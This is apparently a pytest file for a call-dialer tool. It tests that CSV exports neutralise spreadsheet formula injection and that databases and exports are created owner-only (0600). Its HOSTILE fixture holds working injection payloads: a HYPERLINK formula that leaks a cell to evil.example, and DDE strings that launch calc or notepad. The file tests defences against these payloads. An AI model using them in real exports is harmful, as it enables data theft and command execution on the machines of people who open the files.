"""Exports a spreadsheet cannot run (CSV formula injection, issue 14 #7) and databases and
exports only their owner can read (0600, issue 14 #8)."""

from __future__ import annotations

import csv
import io
import os
import stat
from collections.abc import Iterator
from pathlib import Path

import pytest

from dialer.campaign.leads_csv import parse_leads
from dialer.campaign.model import CampaignSpec
from dialer.campaign.store import CampaignStore
from dialer.csv_safe import safe_cell
from dialer.records import CallRecord, RecordStore, csv_text
from voxgate.cli import main

HOSTILE = {
    "link": '=HYPERLINK("http://evil.example/?x="&A1,"click")',
    "sum": "@SUM(1+1)*cmd|' /C calc'!A0",
    "cmd": "+cmd|' /C notepad'!A0",
    "minus": "-2+3+cmd|' /C calc'!A0",
    "tab": "\t=1+1",
    "cr": "\r=1+1",
}


def test_cells_starting_a_formula_are_neutralised_phone_numbers_excepted() -> None:
    for text in HOSTILE.values():
        assert safe_cell(text) == "'" + text
    assert safe_cell("+919812345678") == "+919812345678"  # a valid number stays a number
    assert safe_cell("+14155550100") == "+14155550100"
    assert safe_cell("+12") == "'+12" and safe_cell("+1 415 555") == "'+1 415 555"  # no E.164
    assert safe_cell("plain") == "plain" and safe_cell(-3) == -3 and safe_cell(2.5) == 2.5


def rows(text: str) -> list[list[str]]:
    return list(csv.reader(io.StringIO(text)))


def test_campaign_export_neutralises_cells_and_column_names(
    tmp_path: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    db = tmp_path / "c.db"
    store = CampaignStore(str(db))
    store.create_campaign(CampaignSpec("c"), 0.0)
    header = "phone,name,=cmd|' /c calc'!a0," + ",".join(HOSTILE)  # (names read lowercase)
    line = "+919812345678,=HYPERLINK(\"x\"),@SUM(1)," + ",".join(
        '"' + v.replace('"', '""') + '"' for v in HOSTILE.values()
    )
    store.add_leads("c", parse_leads(f"{header}\n{line}\n").leads, 0.0)
    store.close()
    assert main(["campaign", "export", "--db", str(db), "c"]) == 0
    head, row = rows(capsys.readouterr().out)
    assert "'=cmd|' /c calc'!a0" in head and "=cmd|' /c calc'!a0" not in head
    cells = dict(zip(head, row, strict=True))
    assert cells["phone"] == "+919812345678"
    assert cells["name"] == "'=HYPERLINK(\"x\")"
    assert cells["'=cmd|' /c calc'!a0"] == "'@SUM(1)"
    for key, text in HOSTILE.items():  # (the import strips the tab and CR around a value)
        assert cells[key] == "'" + text.strip()
    formulas = [c for c in row[1:] if c.startswith(("=", "+", "@", "-", "\t", "\r"))]
    assert formulas == []


def test_dialer_export_and_records_csv_neutralise_cells(tmp_path: Path) -> None:
    record = CallRecord(
        "c1", "+919812345678", "bot_first", disposition="bot_completed",
        hangup_reason=HOSTILE["link"], failure=HOSTILE["cmd"], escalation_reason=HOSTILE["sum"],
    )
    for text in (csv_text([record]), export(tmp_path, record)):
        head, row = rows(text)
        cells = dict(zip(head, row, strict=True))
        assert cells["number"] == "+919812345678"
        assert cells["hangup_reason"] == "'" + HOSTILE["link"]
        assert cells["failure"] == "'" + HOSTILE["cmd"]
        assert cells["escalation_reason"] == "'" + HOSTILE["sum"]


def export(tmp_path: Path, record: CallRecord) -> str:
    db, out = tmp_path / "d.db", tmp_path / "out.csv"
    store = RecordStore(db)
    store.save(record)
    store.close()
    assert main(["dialer", "export", "--db", str(db), "--out", str(out)]) == 0
    return out.read_text()


@pytest.fixture
def open_umask() -> Iterator[None]:
    old = os.umask(0o022)  # a usual umask: files 0644 unless made otherwise
    try:
        yield
    finally:
        os.umask(old)


def mode(path: Path) -> int:
    return stat.S_IMODE(path.stat().st_mode)


@pytest.mark.usefixtures("open_umask")
def test_databases_their_journals_and_exports_are_0600(
    tmp_path: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    db = tmp_path / "c.db"
    store = CampaignStore(str(db))
    store.create_campaign(CampaignSpec("c"), 0.0)
    records = RecordStore(db)  # the dialer's records in the same file, as campaign run does
    records.save(CallRecord("c1", "+919812345678", "bot_first"))
    wal, shm = Path(f"{db}-wal"), Path(f"{db}-shm")
    assert wal.exists() and shm.exists()
    assert (mode(db), mode(wal), mode(shm)) == (0o600, 0o600, 0o600)
    other = tmp_path / "records.db"
    RecordStore(other).close()
    assert mode(other) == 0o600
    old = tmp_path / "old.db"  # a database an older version left world-readable
    old.touch(mode=0o644)
    log = Path(f"{old}-wal")  # with its log, as a killed process leaves it
    log.touch(mode=0o644)
    reopened = CampaignStore(str(old))
    assert (mode(old), mode(log)) == (0o600, 0o600)
    reopened.close()
    records.close()
    store.close()
    out = tmp_path / "leads.csv"
    assert main(["campaign", "export", "--db", str(db), "c", "--out", str(out)]) == 0
    assert mode(out) == 0o600
    calls = tmp_path / "calls.jsonl"
    calls.touch(mode=0o644)  # written over: narrowed before the records go in
    assert main(["dialer", "export", "--db", str(db), "--out", str(calls)]) == 0
    assert mode(calls) == 0o600 and calls.read_text().count("\n") == 1
